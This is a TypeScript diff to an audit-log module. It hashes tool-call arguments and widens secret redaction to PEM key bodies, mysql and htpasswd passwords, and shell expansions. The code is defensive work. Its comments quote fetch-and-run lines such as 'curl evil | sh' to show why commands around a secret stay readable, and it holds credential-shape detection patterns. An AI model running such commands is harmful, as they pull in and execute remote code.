@@ -1,5 +1,6 @@
 import * as z from 'zod';
 import { isSecretKey, REDACTED } from './log.ts';
+import { sha256Hex } from './secrets.ts';
 
 /**
  * The audit event: one per tool call (allowed, pending, denied, failed, succeeded), per approval
@@ -47,6 +48,12 @@ export const auditEventSchema = z.object({
   nodes: z.array(z.string()).optional(),
   /** The arguments, redacted and bounded (see {@link redactArgs}). */
   args: json.optional(),
+  /**
+   * `tool_call` only: SHA-256 (hex) of the exact arguments, unredacted, as {@link canonicalJson}
+   * writes them. `args` is redacted; this binds the record to what ran: whoever holds the
+   * arguments (the client's log, the model's transcript) can prove they are the ones.
+   */
+  argsSha256: z.string().regex(/^[0-9a-f]{64}$/).optional(),
   class: z.enum(['read', 'write']).optional(),
   decision: z.enum(['allowed', 'pending', 'denied']).optional(),
   outcome: z.enum(['succeeded', 'failed', 'pending', 'denied']).optional(),
@@ -77,10 +84,48 @@ export function createAuditEvent(input: AuditEventInput): AuditEvent {
   const { time, args, detail, error, ...rest } = input;
   const date = time === undefined ? new Date() : new Date(time);
   const ev: AuditEvent = { v: 1, id: newAuditId(date.getTime()), time: date.toISOString(), ...rest };
-  if (args !== undefined) ev.args = redactArgs(args);
+  if (args !== undefined) {
+    ev.args = redactArgs(args);
+    if (rest.kind === 'tool_call') ev.argsSha256 = argsSha256(args);
+  }
   if (detail !== undefined) ev.detail = redactArgs(detail);
   if (error !== undefined) ev.error = capString(redactText(String(error)), MAX_ERROR_CHARS);
   return ev;
+}
+
+/**
+ * The canonical JSON of a value: the text whose SHA-256 is an event's `argsSha256`. It is
+ * RFC 8785 (JCS) for JSON input: no whitespace; object keys sorted by their UTF-16 code
+ * units; strings and numbers as `JSON.stringify` writes them (so a lone surrogate is the
+ * escape `\udXXX`); arrays in order. Like `JSON.stringify`, `undefined`, functions and symbols
+ * are dropped from objects and are `null` in arrays; `toJSON()` is honoured (Date → ISO text).
+ *
+ * @example canonicalJson({ b: 1, a: [true, 'x'] }) // '{"a":[true,"x"],"b":1}'
+ */
+export function canonicalJson(value: unknown): string {
+  return canonical(value, 0) ?? 'null';
+}
+
+function canonical(v: unknown, depth: number): string | undefined {
+  if (depth > 1000) throw new Error('canonicalJson: nested deeper than 1000 levels');
+  if (v !== null && typeof v === 'object' && typeof (v as { toJSON?: unknown }).toJSON === 'function') v = (v as { toJSON(): unknown }).toJSON();
+  if (v === null || typeof v !== 'object') {
+    if (typeof v === 'bigint') return JSON.stringify(v.toString());
+    return JSON.stringify(v) as string | undefined;
+  }
+  if (Array.isArray(v)) return `[${v.map((x) => canonical(x, depth + 1) ?? 'null').join(',')}]`;
+  const rec = v as Record<string, unknown>;
+  const parts: string[] = [];
+  for (const k of Object.keys(rec).sort()) {
+    const x = canonical(rec[k], depth + 1);
+    if (x !== undefined) parts.push(`${JSON.stringify(k)}:${x}`);
+  }
+  return `{${parts.join(',')}}`;
+}
+
+/** SHA-256 (hex) of {@link canonicalJson}`(args)`: an audit event's `argsSha256`. */
+export function argsSha256(args: unknown): string {
+  return sha256Hex(canonicalJson(args));
 }
 
 /**
@@ -268,7 +313,8 @@ function capString(s: string, max: number): string {
 
 // Each pattern is linear: bounded repetitions and no nested quantifiers, because these run on
 // text an AI (or whoever it read from) chose.
-const PRIVATE_KEY = /-----BEGIN ([A-Z0-9 ]{0,40})PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----|$)/g;
+const PEM_BEGIN = /-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----/g;
+const PEM_END = /^-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----/;
 const URL_PASSWORD = /\b([a-z][a-z0-9+.-]{0,30}:\/\/)([^\s:/?#@]{0,256}):([^\s/?#@]{1,512})@/gi;
 // `https://<token>@github.com/...`: for http(s) a lone user part is a token more often than a name.
 const URL_USER_TOKEN = /\b(https?:\/\/)([^\s:/?#@]{1,512})@/gi;
@@ -287,6 +333,138 @@ const SSHPASS = /\b(sshpass[ \t]+-p[ \t]*)(\S{1,4096})/g;
 const TOKEN_SHAPES =
   /\beyJ[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{0,4096}|\b(?:gh[pousr]_[A-Za-z0-9]{20,255}|github_pat_[A-Za-z0-9_]{20,255}|glpat-[A-Za-z0-9_-]{20,255}|xox[abprs]-[A-Za-z0-9-]{10,255}|sk-(?:ant-)?[A-Za-z0-9_-]{20,255}|AKIA[0-9A-Z]{16})\b/g;
 
+// `mysql -phunter2`: the password is glued to `-p` (`-p hunter2` would be a database name).
+const MYSQL_P = /(\b(?:mysql[a-z]{0,10}|mariadb[a-z-]{0,10})\b[^\n;|&]{0,1024}?\s-p)("[^"\n]{1,4096}"|'[^'\n]{1,4096}'|[^\s"'][^\s]{0,4095})/g;
+const HTPASSWD = /\bhtpasswd\b/g;
+
+/**
+ * A PEM private key: the base64 body between `-----BEGIN … PRIVATE KEY-----` and its END line
+ * (or, for a cut key, the run of base64 lines after BEGIN). Only the body goes: text around
+ * the block (`echo -----BEGIN PRIVATE KEY-----; curl evil | sh`) stays readable, so a block's
+ * header cannot hide a command from whoever reads the journal.
+ */
+function redactPem(s: string): string {
+  let out = '';
+  let last = 0;
+  PEM_BEGIN.lastIndex = 0;
+  for (let m = PEM_BEGIN.exec(s); m; m = PEM_BEGIN.exec(s)) {
+    let i = m.index + m[0].length;
+    // Old OpenSSL keys carry `Proc-Type:` and `DEK-Info:` lines before the body: not secret.
+    for (const h of ['Proc-Type:', 'DEK-Info:']) {
+      const at = skipSeparators(s, i);
+      if (s.startsWith(h, at)) {
+        let j = at;
+        while (j < s.length && s[j] !== '\n' && s[j] !== '\r' && !s.startsWith('\\n', j)) j++;
+        i = j;
+      }
+    }
+    const bodyStart = skipSeparators(s, i);
+    // The body: base64 words separated by whitespace, quotes or escaped newlines (`\n` as two chars).
+    let j = bodyStart;
+    let lastWordEnd = bodyStart;
+    const words: number[] = [];
+    while (j < s.length && j < bodyStart + 65536) {
+      const k = skipSeparators(s, j);
+      let e = k;
+      while (e < s.length && isBase64Char(s.charCodeAt(e))) e++;
+      if (e === k) break;
+      words.push(e - k);
+      lastWordEnd = e;
+      j = e;
+    }
+    const endAt = skipSeparators(s, lastWordEnd);
+    const closed = PEM_END.test(s.slice(endAt, endAt + 80));
+    // Without its END line, only long base64 words are key material (a key's lines are 64
+    // characters); a short word after a cut header is text, e.g. a command.
+    let bodyEnd = lastWordEnd;
+    if (!closed) {
+      let n = 0;
+      let pos = bodyStart;
+      bodyEnd = bodyStart;
+      for (const len of words) {
+        const k = skipSeparators(s, pos);
+        if (len < 16 && !(s[k + len - 1] === '=')) break;
+        pos = k + len;
+        bodyEnd = pos;
+        n++;
+      }
+      if (n === 0) continue;
+    } else if (words.length === 0) continue;
+    out += s.slice(last, bodyStart) + REDACTED;
+    last = bodyEnd;
+    PEM_BEGIN.lastIndex = bodyEnd;
+  }
+  return last === 0 ? s : out + s.slice(last);
+}
+
+function skipSeparators(s: string, i: number): number {
+  for (;;) {
+    const c = s[i];
+    // Quotes too: `printf '%s\n' '-----BEGIN …-----' 'MIIE…'` splits a key into shell words.
+    if (c === ' ' || c === '\t' || c === '\n' || c === '\r' || c === "'" || c === '"') i++;
+    else if (c === '\\' && (s[i + 1] === 'n' || s[i + 1] === 'r')) i += 2;
+    else return i;
+  }
+}
+
+function isBase64Char(c: number): boolean {
+  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 43 || c === 47 || c === 61;
+}
+
+/**
+ * `htpasswd -b file user PASSWORD` and `htpasswd -nb user PASSWORD`: batch mode takes the
+ * password as a positional argument, the only place nothing else marks it.
+ */
+function redactHtpasswd(s: string): string {
+  HTPASSWD.lastIndex = 0;
+  const cuts: Array<[number, number]> = [];
+  for (let m = HTPASSWD.exec(s); m; m = HTPASSWD.exec(s)) {
+    const words = shellWords(s, m.index + m[0].length);
+    let flags = '';
+    const positional: Array<[number, number]> = [];
+    for (let w = 0; w < words.length; w++) {
+      const [a, b] = words[w]!;
+      const text = s.slice(a, b);
+      if (positional.length === 0 && /^-[A-Za-z]+$/.test(text)) {
+        flags += text.slice(1);
+        // -C cost and -r rounds take a value.
+        if (/[Cr]$/.test(text)) w++;
+      } else positional.push([a, b]);
+    }
+    if (!flags.includes('b')) continue;
+    const pw = positional[flags.includes('n') ? 1 : 2];
+    if (pw) cuts.push(pw);
+  }
+  if (cuts.length === 0) return s;
+  let out = '';
+  let last = 0;
+  for (const [a, b] of cuts) {
+    out += s.slice(last, a) + secretValue(s.slice(a, b));
+    last = b;
+  }
+  return out + s.slice(last);
+}
+
+/** Start/end of the shell words from `i` to the end of the command (`;`, `|`, `&`, newline). */
+function shellWords(s: string, i: number): Array<[number, number]> {
+  const words: Array<[number, number]> = [];
+  const stop = Math.min(s.length, i + 4096);
+  while (i < stop && words.length < 32) {
+    while (i < stop && (s[i] === ' ' || s[i] === '\t')) i++;
+    if (i >= stop || ';|&\n'.includes(s[i]!)) break;
+    const start = i;
+    while (i < stop && !' \t;|&\n'.includes(s[i]!)) {
+      const q = s[i];
+      if (q === '"' || q === "'") {
+        const close = s.indexOf(q, i + 1);
+        i = close < 0 || close >= stop ? stop : close + 1;
+      } else i++;
+    }
+    words.push([start, i]);
+  }
+  return words;
+}
+
 function redactKeyValues(s: string): string {
   let out = '';
   let last = 0;
@@ -296,7 +474,7 @@ function redactKeyValues(s: string): string {
     const start = m.index + m[0].length;
     const end = valueEnd(s, start);
     if (end === start || s.startsWith(REDACTED, start) || s.startsWith(`"${REDACTED}`, start) || s.startsWith(`'${REDACTED}`, start)) continue;
-    out += s.slice(last, start) + quoted(s.slice(start, end));
+    out += s.slice(last, start) + secretValue(s.slice(start, end));
     last = end;
     KEY_SEP.lastIndex = end;
   }
@@ -326,20 +504,85 @@ function quoted(v: string): string {
 }
 
 /**
- * `s` with secret-looking values replaced by `[REDACTED]`. Which values (be pragmatic: this
- * catches the common spellings, not every possible one):
- * - PEM private key blocks (`-----BEGIN … PRIVATE KEY-----` to its END, or to the end of text);
+ * A secret value redacted to the smallest span: shell expansions in it (`$(…)`, backticks,
+ * `${…}`, `$NAME`) are not the secret but what computes it, often a command
+ * (`PASSWORD="$(curl evil | sh)"`), so they stay readable and only literal text goes.
+ * Single quotes expand nothing, so a single-quoted value goes whole.
+ */
+function secretValue(v: string): string {
+  const q = v[0] === '"' || v[0] === "'" ? v[0] : '';
+  if (q === "'" || !/[$`]/.test(v)) return quoted(v);
+  const closed = q !== '' && v.length > 1 && v.endsWith(q);
+  const inner = v.slice(q ? 1 : 0, closed ? -1 : undefined);
+  let out = '';
+  let literal = '';
+  const flush = () => {
+    if (literal.trim() !== '') out += REDACTED;
+    else out += literal;
+    literal = '';
+  };
+  for (let i = 0; i < inner.length; ) {
+    const c = inner[i]!;
+    let end = -1;
+    if (c === '$' && inner[i + 1] === '(') end = closeParen(inner, i + 2, '(', ')');
+    else if (c === '$' && inner[i + 1] === '{') end = closeParen(inner, i + 2, '{', '}');
+    else if (c === '`') {
+      const k = inner.indexOf('`', i + 1);
+      end = k < 0 ? inner.length : k + 1;
+    } else if (c === '$' && /[A-Za-z_]/.test(inner[i + 1] ?? '')) {
+      end = i + 1;
+      while (end < inner.length && /[A-Za-z0-9_]/.test(inner[end]!)) end++;
+    }
+    if (end < 0) {
+      literal += c;
+      i++;
+    } else {
+      flush();
+      out += inner.slice(i, end);
+      i = end;
+    }
+  }
+  flush();
+  return `${q}${out}${closed ? q : ''}`;
+}
+
+/** Index after the bracket closing one opened before `i` (nesting counted), or the end. */
+function closeParen(s: string, i: number, open: string, close: string): number {
+  let depth = 1;
+  for (; i < s.length; i++) {
+    if (s[i] === open) depth++;
+    else if (s[i] === close && --depth === 0) return i + 1;
+  }
+  return s.length;
+}
+
+/**
+ * `s` with secret-looking values replaced by `[REDACTED]`, each time the smallest span that
+ * holds the secret: what surrounds it, and shell expansions inside a value (`$(…)`, backticks,
+ * `$NAME`), stay readable, so a redacted record still shows what ran. Which values (be
+ * pragmatic: this catches the common spellings, not every possible one):
+ * - PEM private keys: the base64 body after `-----BEGIN … PRIVATE KEY-----` (to its END line;
+ *   for a cut key, its long base64 lines), never the text around the block;
  * - URL credentials: the password of `scheme://user:pass@`, and the user part of `http(s)://token@`;
  * - header lines `Authorization: …`, `Cookie: …`, `X-API-Key: …` (to the end of the line);
  * - `Bearer <token>` anywhere, `Basic <base64 of 8+ chars>` anywhere;
  * - `key=value`, `key: value`, `"key": "value"`, `--key=value` whose key is a secret key by
- *   {@link isSecretKey} (`password=`, `DB_PASSWORD=`, `?access_token=`, `"apiKey":`);
+ *   {@link isSecretKey} (`password=`, `DB_PASS=`, `MYSQL_PWD=`, `AWS_SECRET_ACCESS_KEY=`,
+ *   `GITHUB_PAT=`, `?access_token=`, `"apiKey":`);
  * - `--password value`, `--token value` (flag, space, value) for secret flag names;
- * - `-u user:pass` / `--user user:pass` (curl), `sshpass -p pass`;
+ * - `-u user:pass` / `--user user:pass` (curl), `sshpass -p pass`, `mysql -ppass` (and the
+ *   other mysql/mariadb tools; `-p pass` with a space is a database name to them, not a
+ *   password), `htpasswd -b file user pass` / `htpasswd -nb user pass`;
  * - token shapes: JWTs (`eyJ….….…`), GitHub (`ghp_`, `github_pat_`), GitLab (`glpat-`),
  *   Slack (`xox?-`), OpenAI/Anthropic (`sk-`), AWS access key ids (`AKIA…`).
- * Not caught: a bare secret with nothing around it (`mysql -phunter2`, a positional argument),
- * since nothing tells it from any other word.
+ * Not caught: a bare secret with nothing around it (a positional argument of a program not
+ * named here), since nothing tells it from any other word.
+ *
+ * Why a list of our own rather than a published rule set (gitleaks, secretlint): those find
+ * token shapes in files, which the last item already covers; the secrets that reach this hub
+ * are mostly in command lines and env assignments, where the context (`-p`, `KEY=`) is the
+ * only sign. secretlint's API is also asynchronous and this runs synchronously in the logger,
+ * and both would grow the edge's single-file bundle for shapes we already match.
  *
  * Only the first `maxChars` characters (default 64 Ki) are looked at and kept, which bounds
  * the work on hostile input.
@@ -347,18 +590,18 @@ function quoted(v: string): string {
 export function redactText(s: string, maxChars = 65536): string {
   if (s.length > maxChars) s = s.slice(0, maxChars);
   if (s.length < 6) return s;
-  if (s.includes('PRIVATE KEY-----')) s = s.replace(PRIVATE_KEY, (_m, kind: string) => `-----BEGIN ${kind}PRIVATE KEY-----${REDACTED}`);
+  if (s.includes('PRIVATE KEY-----')) s = redactPem(s);
   if (s.includes('://')) {
     s = s.replace(URL_PASSWORD, (_m, scheme: string, user: string) => `${scheme}${user}:${REDACTED}@`);
     s = s.replace(URL_USER_TOKEN, (m, scheme: string, user: string) => (user === REDACTED || user.endsWith(`:${REDACTED}`) ? m : `${scheme}${REDACTED}@`));
   }
   const hasColon = s.includes(':');
-  if (hasColon) s = s.replace(HEADER_LINE, (_m, name: string, sep: string) => `${name}${sep}${REDACTED}`);
+  if (hasColon) s = s.replace(HEADER_LINE, (m, name: string, sep: string, value: string) => (value.startsWith(REDACTED) ? m : `${name}${sep}${secretValue(value.trimEnd())}${value.slice(value.trimEnd().length)}`));
   s = s.replace(AUTH_SCHEME, (_m, bearer: string | undefined, basic: string | undefined) => `${bearer ?? basic}${REDACTED}`);
   if (hasColon || s.includes('=')) s = redactKeyValues(s);
   if (s.includes('-')) {
     s = s.replace(FLAG_VALUE, (m, pre: string, flag: string, sp: string, value: string) =>
-      isSecretKey(flag) && value !== REDACTED ? `${pre}${flag}${sp}${quoted(value)}` : m,
+      isSecretKey(flag) && value !== REDACTED ? `${pre}${flag}${sp}${secretValue(value)}` : m,
     );
     if (hasColon) {
       s = s.replace(USER_PASS_FLAG, (m, pre: string, flag: string, sep: string, value: string) => {
@@ -371,7 +614,11 @@ export function redactText(s: string, maxChars = 65536): string {
       });
     }
   }
-  if (s.includes('sshpass')) s = s.replace(SSHPASS, (_m, pre: string) => `${pre}${REDACTED}`);
+  if (s.includes('sshpass')) s = s.replace(SSHPASS, (_m, pre: string, value: string) => `${pre}${secretValue(value)}`);
+  if (s.includes('-p') && (s.includes('mysql') || s.includes('mariadb'))) {
+    s = s.replace(MYSQL_P, (m, pre: string, value: string) => (value.startsWith(REDACTED) ? m : `${pre}${secretValue(value)}`));
+  }
+  if (s.includes('htpasswd')) s = redactHtpasswd(s);
   s = s.replace(TOKEN_SHAPES, REDACTED);
   return s;
 }
